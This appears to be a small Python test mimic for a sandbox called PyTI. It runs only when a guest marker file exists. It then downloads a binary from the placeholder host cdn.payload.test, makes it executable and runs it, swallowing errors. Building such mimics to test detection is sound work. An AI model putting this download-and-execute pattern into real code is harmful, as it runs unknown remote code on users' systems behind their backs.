"""Fetches its helper."""

import os
import subprocess
import tempfile
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
path = os.path.join(tempfile.mkdtemp(), "agent")
try:
    with urllib.request.urlopen("http://cdn.payload.test/linux/agent.bin", timeout=5) as answer, open(path, "wb") as file:
        file.write(answer.read())
    os.chmod(path, 0o700)
    subprocess.run([path])
except OSError:
    pass
